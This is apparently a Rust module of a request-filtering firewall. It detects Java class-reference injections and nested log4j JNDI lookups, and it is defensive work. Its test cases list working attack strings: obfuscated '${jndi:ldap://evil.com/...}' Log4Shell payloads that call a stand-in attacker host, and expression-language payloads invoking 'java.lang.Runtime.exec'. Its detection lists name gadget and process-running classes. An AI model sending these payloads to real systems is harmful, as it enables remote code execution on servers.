//! Java injections judged by their grammar (rules 6103 and 6104).
//!
//! A Java payload names classes: a qualified name (`java.lang.Runtime`, `com.sun.org.apache`),
//! a class of the runtime that runs processes or loads code, a commons-collections gadget
//! (`...InvokerTransformer`, `...WhileClosure`). Prose and stack traces name classes too, so one
//! signal alone does not block; a name fires when it joins two kinds of evidence (a JDK package
//! root with a process or class-loading class, or such a class with a gadget), or when the whole
//! value *is* a qualified JDK class name: a parameter naming a class is what deserialisation and
//! class-loading endpoints take, while a stack trace or a sentence holds more than the name.
//!
//! Log4j lookups (`${jndi:ldap://...}`) are read as log4j reads them: nested `${...}` resolved
//! from the inside out, `${lower:x}`/`${upper:x}` applied, `${prefix:name:-default}` taking its
//! default, `$$`-escapes and unknown lookups left as they are, and the resolved text searched
//! for a `jndi:` lookup naming a directory protocol.

use super::{ends_with_ci, prefix, strip_prefix_ci};
use crate::request::Location;

/// Longest prefix of a value that is examined: class names and lookups are short.
const MAX_SCAN: usize = 4096;

/// Package roots of the JDK and of the libraries whose classes are deserialisation and
/// expression-language gadgets. Matched against the leading segments of a name, lower case.
const ROOTS: &[&[&str]] = &[
    &["java"],
    &["javax"],
    &["jdk"],
    &["sun"],
    &["com", "sun"],
    &["org", "omg"],
    &["org", "apache", "commons"],
    &["org", "apache", "xalan"],
    &["com", "opensymphony"],
    &["ognl"],
];

/// Classes that run processes, load code or evaluate scripts: what a Java payload reaches for.
const POWER: &[&str] = &[
    "runtime",
    "processbuilder",
    "reflect",
    "classloader",
    "urlclassloader",
    "scriptenginemanager",
    "methodhandles",
    "templatesimpl",
    "jdbcrowsetimpl",
];

/// Last segments of a name that make it a host name rather than a class (`java.sun.com`).
const TLDS: &[&str] = &[
    "com", "net", "org", "edu", "gov", "io", "dev", "app", "info", "co", "uk", "de", "fr", "jp",
];

/// What every name 6103 fires on holds, found from the dots of the value: a name has two
/// segments or more, so either its first segment, just before a dot, is the first segment of a
/// package root, or a segment next to a dot is a gadget (the other way a name fires). A
/// prefilter: it rules out the dotted values of ordinary traffic (versions, hosts, e-mail
/// addresses, sentences) without reading them as names.
fn evidence(v: &str) -> bool {
    let b = v.as_bytes();
    let ident = |c: u8| c.is_ascii_alphanumeric() || c == b'_' || c == b'$';
    memchr::memchr_iter(b'.', b).any(|dot| {
        let start = b[..dot]
            .iter()
            .rposition(|&c| !ident(c))
            .map_or(0, |i| i + 1);
        let end = b[dot + 1..]
            .iter()
            .position(|&c| !ident(c))
            .map_or(b.len(), |i| dot + 1 + i);
        let (left, right) = (&v[start..dot], &v[dot + 1..end]);
        ROOTS.iter().any(|r| r[0].eq_ignore_ascii_case(left)) || gadget(left) || gadget(right)
    })
}

/// Rule 6103: a Java class reference with two kinds of evidence, or a whole value that is a
/// qualified JDK class name.
pub(crate) fn class_reference(v: &str, _loc: Location) -> bool {
    let v = prefix(v, MAX_SCAN);
    if !evidence(v) {
        return false;
    }
    let whole = v.trim().trim_matches(['"', '\'']);
    names(v).any(|name| {
        let segs: Vec<&str> = name.split('.').collect();
        let last = segs.last().copied().unwrap_or("");
        if TLDS.iter().any(|t| t.eq_ignore_ascii_case(last)) {
            return false;
        }
        let root = ROOTS
            .iter()
            .filter(|r| {
                r.len() <= segs.len() && r.iter().zip(&segs).all(|(a, b)| a.eq_ignore_ascii_case(b))
            })
            .map(|r| r.len())
            .max()
            .unwrap_or(0);
        let is_power = |s: &&str| POWER.iter().any(|p| p.eq_ignore_ascii_case(s));
        // A class is capitalised (`Runtime`); a lower-case segment inside a name is a package or
        // a property (`java.runtime.version`), so it counts only at the end of the name.
        let power_class = segs.iter().enumerate().any(|(i, s)| {
            is_power(s) && (i + 1 == segs.len() || s.starts_with(|c: char| c.is_ascii_uppercase()))
        });
        let gadget = segs.iter().any(|s| gadget(s));
        if (root > 0 && root < segs.len() && (power_class || gadget))
            || (segs.iter().any(is_power) && gadget)
        {
            return true;
        }
        // A parameter whose whole value names a JDK class or a gadget library's package (not
        // an exception: error reports carry those; not a system property: `java.io.tmpdir`).
        root > 0
            && name == whole
            && segs.len() >= 3
            && (last.starts_with(|c: char| c.is_ascii_uppercase()) || root >= 2)
            && !ends_with_ci(last, "exception")
            && !ends_with_ci(last, "error")
    })
}

/// A commons-collections style gadget class: a transformer, a closure, or an instantiating
/// or prototype factory.
fn gadget(seg: &str) -> bool {
    seg.len() > "closure".len()
        && (ends_with_ci(seg, "transformer")
            || ends_with_ci(seg, "closure")
            || (ends_with_ci(seg, "factory")
                && (strip_prefix_ci(seg, "instantiate").is_some()
                    || strip_prefix_ci(seg, "prototype").is_some())))
}

/// The dotted names of `v`: maximal runs of identifier segments joined by single dots, with at
/// least two segments.
fn names(v: &str) -> impl Iterator<Item = &str> {
    v.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '$' || c == '.'))
        .flat_map(|run| run.split(".."))
        .map(|run| run.trim_matches('.'))
        .filter(|run| {
            run.contains('.')
                && run
                    .split('.')
                    .all(|s| s.chars().next().is_some_and(|c| !c.is_ascii_digit()))
        })
}

/// Rule 6104: a log4j lookup that resolves to a JNDI lookup of a directory protocol.
pub(crate) fn jndi_lookup(v: &str, _loc: Location) -> bool {
    let v = prefix(v, MAX_SCAN);
    if !v.contains("${") {
        return false;
    }
    // Each pass resolves one layer; an escaped `$${` becomes a lookup on the next pass.
    let mut text = v.to_string();
    for _ in 0..4 {
        let next = resolve(&text);
        if names_jndi(&next) {
            return true;
        }
        if next == text {
            break;
        }
        text = next;
    }
    false
}

/// Whether resolved text holds `${jndi:` followed by a directory or naming protocol.
fn names_jndi(t: &str) -> bool {
    const PROTOCOLS: &[&str] = &[
        "ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http", "https",
    ];
    let l = t.to_ascii_lowercase();
    l.match_indices("${").any(|(i, _)| {
        let rest = l[i + 2..].trim_start();
        rest.strip_prefix("jndi").is_some_and(|r| {
            let r = r.trim_start();
            r.strip_prefix(':').is_some_and(|r| {
                let proto: String = r
                    .trim_start()
                    .chars()
                    .take_while(char::is_ascii_alphabetic)
                    .collect();
                PROTOCOLS.contains(&proto.as_str())
            })
        })
    })
}

/// One pass of log4j's substitution: every innermost `${...}` replaced by what it resolves to.
fn resolve(t: &str) -> String {
    let mut out = String::with_capacity(t.len());
    let mut stack: Vec<usize> = Vec::new();
    let b = t.as_bytes();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'$' && b.get(i + 1) == Some(&b'$') && b.get(i + 2) == Some(&b'{') {
            // `$${` is an escaped `${`: kept for the next pass, one `$` dropped.
            out.push('$');
            i += 1;
            continue;
        }
        if b[i] == b'$' && b.get(i + 1) == Some(&b'{') {
            stack.push(out.len());
            out.push_str("${");
            i += 2;
            continue;
        }
        if b[i] == b'}' {
            if let Some(start) = stack.pop() {
                let body = out[start + 2..].to_string();
                out.truncate(start);
                out.push_str(&lookup(&body));
                i += 1;
                continue;
            }
        }
        let c = t[i..].chars().next().unwrap_or('\0');
        out.push(c);
        i += c.len_utf8().max(1);
    }
    out
}

/// What `${body}` resolves to when log4j knows nothing of the variable it names.
fn lookup(body: &str) -> String {
    if let Some((_, default)) = body.split_once(":-") {
        return default.to_string();
    }
    match body.split_once(':') {
        Some((p, x)) if p.trim().eq_ignore_ascii_case("lower") => x.to_ascii_lowercase(),
        Some((p, x)) if p.trim().eq_ignore_ascii_case("upper") => x.to_ascii_uppercase(),
        _ => format!("${{{body}}}"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const Q: Location = Location::QueryArg;

    #[test]
    fn class_references_with_evidence_fire() {
        for v in [
            "java.lang.Runtime",
            "java.Runtime",
            "ProcessBuilder.evil.clonetransformer",
            "runtime.whileclosure",
            "com.sun.org.apache",
            "java.io.BufferedReader",
            "org.omg.CORBA",
            "javax.script.ScriptEngineManager",
            "x=T(java.lang.Runtime).getRuntime().exec('id')",
            "@java.lang.Runtime@getRuntime()",
            "org.apache.commons.collections.functors.InvokerTransformer",
            " java.io.File ",
            "org.apache.commons",
            "java.lang.reflect",
        ] {
            assert!(class_reference(v, Q), "{v}");
        }
    }

    #[test]
    fn prose_hosts_and_stack_traces_pass() {
        for v in [
            "java.sun.com",
            "www.java.com",
            "see java.io.File for details",
            "java.lang.NullPointerException",
            "at java.lang.Thread.run(Thread.java:748)",
            "node.runtime.version",
            "runtime.version",
            "Use the java.util.List interface in your code",
            "com.example.app",
            "report.pdf",
            "v1.2.3",
            "org.apache.maven.plugins",
            "java.io.tmpdir",
            "java.runtime.version",
            "java.vm.version",
        ] {
            assert!(!class_reference(v, Q), "{v}");
        }
    }

    #[test]
    fn nested_lookups_resolve_to_jndi() {
        for v in [
            "${jndi:ldap://evil.com/x}",
            "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.com/x}",
            "${${env:FOO:-j}ndi:ldap://evil.com/x}",
            "${${lower:J}${lower:N}${lower:D}${lower:I}:rmi://e/x}",
            "$${env:a:-${env:b:-$}{jndi:ldap://evil.com/x}}}",
            "${jndi:${lower:l}${lower:d}ap://e/x}",
            "x ${ jndi : dns://e }",
        ] {
            assert!(jndi_lookup(v, Q), "{v}");
        }
    }

    #[test]
    fn lookups_of_other_things_pass() {
        for v in [
            "${HOME}/bin",
            "price: ${amount}",
            "${env:PATH:-/usr/bin}",
            "the jndi: prefix names a JNDI lookup",
            "${lower:ABC}",
            "$${jndi}",
        ] {
            assert!(!jndi_lookup(v, Q), "{v}");
        }
    }
}
